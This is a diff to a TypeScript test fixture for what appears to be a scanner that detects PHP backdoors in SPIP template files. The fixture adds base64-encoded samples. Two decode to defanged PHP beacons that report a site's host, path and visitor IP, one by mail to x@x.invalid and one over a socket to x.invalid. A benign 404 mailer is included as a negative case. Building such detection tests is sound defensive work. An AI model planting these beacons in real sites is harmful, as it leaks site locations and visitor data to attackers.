@@ -91,6 +91,24 @@ export const takenSamples: readonly Sample[] = [
     expect: ['php-tool'],
   },
   {
+    name: 'tells somebody by mail where it lies',
+    path: 'squelettes/mes_fonctions.php',
+    zone: 'template',
+    mayHoldCode: true,
+    base64:
+      'PD9waHAgZXhpdDsgJHYgPSAkX1NFUlZFUlsnUkVNT1RFX0FERFInXTsgJHcgPSAkX1NFUlZFUlsnSFRUUF9IT1NUJ10gLiAkX1NFUlZFUlsnUkVRVUVTVF9VUkknXTsgaWYgKCRfQ09PS0lFWydzZWVuJ10gPT0gJycpIG1haWwoJ3hAeC5pbnZhbGlkJywgJ25ldycsICdhdCBodHRwOi8vJyAuICR3IC4gJyBieSAnIC4gJHYpOw==',
+    expect: ['php-tool'],
+  },
+  {
+    name: 'tells another machine where it lies',
+    path: 'squelettes/mes_fonctions.php',
+    zone: 'template',
+    mayHoldCode: true,
+    base64:
+      'PD9waHAgZXhpdDsgJGcgPSAnL3U/Zz0nIC4gYmluMmhleCgkX1NFUlZFUlsnSFRUUF9IT1NUJ10pIC4gJyZzPScgLiBiaW4yaGV4KCRfU0VSVkVSWydQSFBfU0VMRiddKTsgJHMgPSBmc29ja29wZW4oJ3guaW52YWxpZCcsIDgwKTsgZnB1dHMoJHMsICdHRVQgJyAuICRnKTs=',
+    expect: ['php-tool'],
+  },
+  {
     name: 'answers between the marks a remote control looks for',
     path: 'squelettes/mes_fonctions.php',
     zone: 'template',
@@ -160,6 +178,15 @@ export const takenSamples: readonly Sample[] = [
     mayHoldCode: true,
     base64:
       'PD9waHAgY2xhc3MgUGF5IHsgZnVuY3Rpb24gcGF5KCkgeyAkcCA9ICR0aGlzLT5nZXRSZXF1ZXN0KCktPmdldFBvc3QoJ3BheW1lbnQnKTsgJGMgPSBjdXJsX2luaXQoKTsgY3VybF9zZXRvcHQoJGMsIENVUkxPUFRfVVJMLCAkdGhpcy0+Z2V0Q29uZmlnRGF0YSgnZ2F0ZXdheScpKTsgY3VybF9zZXRvcHQoJGMsIENVUkxPUFRfUE9TVEZJRUxEUywgaHR0cF9idWlsZF9xdWVyeSgkcCkpOyByZXR1cm4gY3VybF9leGVjKCRjKTsgfSB9',
+    expect: [],
+  },
+  {
+    name: 'a page that tells its owner what was not found',
+    path: 'squelettes/mes_fonctions.php',
+    zone: 'template',
+    mayHoldCode: true,
+    base64:
+      'PD9waHAgaGVhZGVyKCdIVFRQLzEuMCA0MDQgTm90IEZvdW5kJyk7IG1haWwoJ3dlYm1hc3RlckBleGFtcGxlLm9yZycsICc0MDQnLCAnaHR0cDovLycgLiAkX1NFUlZFUlsnSFRUUF9IT1NUJ10gLiAkX1NFUlZFUlsnUkVRVUVTVF9VUkknXSk7IGVjaG8gJ05vdCBmb3VuZCc7',
     expect: [],
   },
   {
